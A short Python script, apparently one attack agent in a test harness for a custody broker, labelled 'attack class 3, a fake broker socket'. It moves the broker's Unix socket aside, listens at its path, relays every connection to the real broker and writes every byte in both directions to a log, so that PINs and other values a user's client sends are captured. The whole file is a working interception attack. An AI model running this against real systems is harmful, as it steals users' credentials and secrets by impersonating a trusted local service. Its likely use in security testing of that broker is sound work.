"""The agent of attack class 3, "a fake broker socket".

Moves the broker's socket aside, listens at its path, and relays every
connection to the real broker while recording every byte both ways, so
anything the human's `custody` sends (a PIN, a value) lands in LOG.
Writes READY once it listens; runs until killed.

Usage: fake_broker.py SOCKET LOG READY_FILE
"""
import os
import socket
import sys
import threading

sock_path, log_path, ready = sys.argv[1], sys.argv[2], sys.argv[3]
real = sock_path + ".real"
os.rename(sock_path, real)
log = open(log_path, "ab", buffering=0)
lock = threading.Lock()


def pump(src, dst, tag):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            with lock:
                log.write(tag + data + b"\n")
            dst.sendall(data)
    except OSError:
        pass
    finally:
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sock_path)
os.chmod(sock_path, 0o600)
srv.listen(64)
open(ready, "w").close()
while True:
    client, _ = srv.accept()
    upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    upstream.connect(real)
    threading.Thread(target=pump, args=(client, upstream, b">"), daemon=True).start()
    threading.Thread(target=pump, args=(upstream, client, b"<"), daemon=True).start()
